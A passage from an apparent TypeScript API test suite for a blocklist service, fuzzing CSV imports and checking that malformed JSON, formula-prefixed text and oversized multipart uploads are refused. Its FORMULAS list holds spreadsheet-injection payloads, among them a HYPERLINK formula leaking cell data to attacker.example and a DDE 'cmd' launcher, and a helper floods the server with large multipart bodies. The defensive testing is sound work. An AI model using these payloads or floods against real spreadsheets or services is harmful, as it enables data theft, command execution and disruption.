    .map((tokens) => tokens.join(""));
  const csvBytes = fc.oneof(
    csvText.map((value) => Buffer.from(value)),
    fc
      .tuple(csvText, fc.uint8Array({ maxLength: 64 }), csvText)
      .map(([a, bytes, b]) => Buffer.concat([Buffer.from(a), bytes, Buffer.from(b)])),
  );

  test("random CSV-ish files: a dry run never writes and always accounts for every row", async () => {
    await fc.assert(
      fc.asyncProperty(csvBytes, fc.boolean(), async (csv, asMultipart) => {
        const response = await hostile(upload("?dryRun=true", csv, asMultipart), {
          readOnly: true,
        });
        expect([200, 400], response.text.slice(0, 200)).toContain(response.status);
      }),
      runs(200),
    );
  });

  test("random CSV-ish files applied: all of it or, when refused, nothing", async () => {
    await fc.assert(
      fc.asyncProperty(csvBytes, fc.constantFrom("?direct=true", ""), async (csv, query) => {
        const response = await hostile(upload(query, csv));
        expect([201, 400], response.text.slice(0, 200)).toContain(response.status);
      }),
      runs(80),
    );
  });
});

describe("regressions: inputs that were a 500 or were misread before this file", () => {
  const post = (path: string, body: string) =>
    hostile({ method: "post", path, headers: { "Content-Type": "application/json" }, body });

  test("a lone UTF-16 surrogate in any JSON string or key is malformed JSON, not a database error", async () => {
    for (const body of [
      '{"name":"lone\\ud800","scopes":["read"]}',
      '{"name":"x\\udfffy","scopes":["read"]}',
      '{"name":"ok","scopes":["read"],"\\ud83d":1}',
    ]) {
      const response = await post("/api/v1/tokens", body);
      expect(response.status, body).toBe(400);
      expect(JSON.parse(response.text)).toMatchObject({
        code: "malformed_json",
        detail: expect.stringMatching(/surrogate/),
      });
    }
    // A surrogate pair is an ordinary character.
    const emoji = await post("/api/v1/tokens", '{"name":"\\ud83d\\udca5","scopes":["read"]}');
    expect(emoji.status).toBe(201);
    expect(JSON.parse(emoji.text).name).toBe("\u{1F4A5}");
  });

  test("a threshold that would round to 0 is refused, not stored as 0", async () => {
    for (const threshold of ["1e-9", "1e-300", "5e-324", "0.001", "0"]) {
      const response = await post(
        "/api/v1/lists",
        `{"slug":"tiny","name":"t","policy":{"threshold":${threshold}}}`,
      );
      expect(response.status, threshold).toBe(400);
      const fields = (JSON.parse(response.text).errors as { field: string }[]).map(
        (error) => error.field,
      );
      expect(new Set(fields), threshold).toEqual(new Set(["policy.threshold"]));
    }
    const lowest = await post(
      "/api/v1/lists",
      '{"slug":"lowest","name":"l","policy":{"threshold":0.01}}',
    );
    expect(lowest.status).toBe(201);
    expect(JSON.parse(lowest.text).policy.threshold).toBe(0.01);
  });

  test("a proposals cursor that is a number but no id is a 400", async () => {
    for (const cursor of ["1e300", "1e21", "9007199254740993", "Infinity", "-Infinity"]) {
      const response = await hostile(
        { method: "get", path: `/api/v1/lists/target/proposals?cursor=${cursor}` },
        { readOnly: true },
      );
      expect(response.status, cursor).toBe(400);
      expect(JSON.parse(response.text).errors, cursor).toEqual([
        { field: "query.cursor", message: "unknown cursor" },
      ]);
    }
  });
});

describe("formula-prefixed text, on every write path", () => {
  const FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
  ];
  /** Every free-text field of a JSON body that reaches a page or an export. */
  const TEXT_FIELDS: Record<string, string[]> = {
    "POST /api/v1/tokens": ["name"],
    "POST /api/v1/instances": ["name"],
    "POST /api/v1/lists": ["name", "description"],
    "PATCH /api/v1/lists/:slug": ["name", "description"],
    "PATCH /api/v1/lists/:slug/entries/:domain": ["publicComment", "privateComment"],
    "POST /api/v1/lists/:slug/proposals": ["reason", "publicComment", "privateComment"],
    "PUT /api/v1/proposals/:id/vote": ["comment"],
    "POST /api/v1/proposals/:id/decide": ["reason"],
    "POST /api/v1/proposals/:id/comments": ["body"],
  };

  test("the table names only routes of the route table, and fields of their bodies", () => {
    for (const [label, fields] of Object.entries(TEXT_FIELDS)) {
      const route = writeRoutes.find((candidate) => routeLabel(candidate) === label);
      expect(route, label).toBeDefined();
      expect(fieldPaths(route!), label).toEqual(expect.arrayContaining(fields));
    }
  });

  test.each(Object.entries(TEXT_FIELDS))(
    "%s: 400 formula naming the field",
    async (label, fields) => {
      const route = writeRoutes.find((candidate) => routeLabel(candidate) === label)!;
      for (const field of fields) {
        for (const formula of FORMULAS) {
          const body = { ...BASE_BODIES[label], [field]: formula };
          const response = await hostile(
            {
              ...baseRequest(route),
              headers: { "Content-Type": "application/json" },
              body: JSON.stringify(body),
            },
            { expect: 400 },
          );
          const problem = JSON.parse(response.text) as {
            code: string;
            errors: { field: string }[];
          };
          expect(problem.code, `${label} ${field} ${JSON.stringify(formula)}`).toBe("formula");
          expect(problem.errors.map((error) => error.field)).toEqual([field]);
        }
      }
    },
  );

  test("an import's formula-prefixed comment is the row problem formula, with its line and column", async () => {
    for (const query of ["?dryRun=true", "?direct=true", ""]) {
      for (const formula of FORMULAS.filter((text) => !/^\s/.test(text))) {
        const csv = [
          "#domain,#severity,#public_comment,#private_comment",
          "clean.example,suspend,spam,",
          `public.example,suspend,"${formula.replaceAll('"', '""')}",`,
          `private.example,silence,,"${formula.replaceAll('"', '""')}"`,
        ].join("\n");
        const response = await hostile({
          method: "post",
          path: `/api/v1/lists/csv-target/imports${query}`,
          headers: { "Content-Type": "text/csv" },
          body: csv,
        });
        const { report } = JSON.parse(response.text) as {
          report: { problems: { line: number; code: string; field: string; message: string }[] };
        };
        expect(report.problems).toMatchObject([
          { line: 3, code: "formula", field: "public_comment" },
          { line: 4, code: "formula", field: "private_comment" },
        ]);
        expect(report.problems[0]!.message).toMatch(/^public_comment must not begin with =/);
      }
    }
    const stored = await app.ctx.db.prisma.entry.findMany({
      where: {
        list: { slug: "csv-target" },
        domain: { in: ["public.example", "private.example"] },
      },
    });
    expect(stored).toEqual([]);
  });
});

describe("multipart limits", () => {
  /** Streams a multipart body of `fields` text fields of `fieldBytes` each and a small file. */
  function flood(fields: number, fieldBytes: number) {
    return new Promise<{
      status: number;
      code: string;
      detail: string;
      sent: number;
      total: number;
    }>((resolve, reject) => {
      const { hostname, port } = new URL(app.url);
      const chunk = Buffer.alloc(fieldBytes, "a");
      const total = fields * (fieldBytes + 100) + 200;
      let sent = 0;
      let answered = false;
      const outgoing = httpRequest(
        {
          host: hostname,
          port,
          method: "POST",
          path: "/api/v1/lists/csv-target/imports?dryRun=true",
          headers: {
            Authorization: `Bearer ${root.token}`,
            "Content-Type": "multipart/form-data; boundary=XyZ",
          },
        },
        (response) => {
          const sentBeforeAnswer = sent;
          answered = true;
          const chunks: Buffer[] = [];
          response.on("data", (data: Buffer) => chunks.push(data));
          response.on("end", () => {
            const problem = JSON.parse(Buffer.concat(chunks).toString("utf8") || "{}");
            resolve({
              status: response.statusCode!,
              code: problem.code,
              detail: problem.detail,
              sent: sentBeforeAnswer,
              total,
            });
            outgoing.destroy();
          });
        },
      );
      outgoing.on("error", () => {});
      let index = 0;
      const writeMore = () => {
        while (index < fields) {
          const part = Buffer.concat([
            Buffer.from(`--XyZ\r\nContent-Disposition: form-data; name="f${index}"\r\n\r\n`),
            chunk,
            Buffer.from("\r\n"),
          ]);
          index += 1;
          sent += part.length;
          if (answered || outgoing.destroyed) return;
          // One part per turn of the event loop, as a real client's network would pace it.
          if (!outgoing.write(part)) return void outgoing.once("drain", writeMore);
          return void setImmediate(writeMore);
        }
        outgoing.end(
          '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\na.example\r\n--XyZ--\r\n',
        );
      };
      writeMore();
      setTimeout(() => reject(new Error("no answer within 60 s")), 60_000).unref();
    });
  }

  test("60 one-megabyte text fields and a small file: 413 naming the limit, before most of it is sent", async () => {
    const before = await probe.state();
    const answer = await flood(60, 1024 * 1024);
    expect(answer.status).toBe(413);
    expect(answer.code).toBe("too_large");
    expect(answer.detail).toMatch(/form field of the upload is longer than 1024 bytes/);
    // Answered while the client was still sending: the service did not read the flood.
    expect(answer.sent).toBeLessThan(answer.total / 2);
    expect(await probe.state()).toEqual(before);
  });

  test("many small fields or parts: 413 naming the count", async () => {
    const answer = await flood(50, 10);
    expect(answer.status).toBe(413);
    expect(answer.detail).toMatch(/more than (4 form fields|5 parts)/);
  });

  test("a Content-Length beyond the whole-request limit is refused unread", async () => {
    const response = await hostile(
      {
        method: "post",
        path: "/api/v1/lists/csv-target/imports?dryRun=true",
        headers: { "Content-Type": "multipart/form-data; boundary=XyZ" },
        body: Buffer.alloc(11 * 1024 * 1024, "a"),
      },
      { readOnly: true, expect: 413 },
    );
    expect(JSON.parse(response.text).detail).toMatch(/The request is larger than/);
  });
});
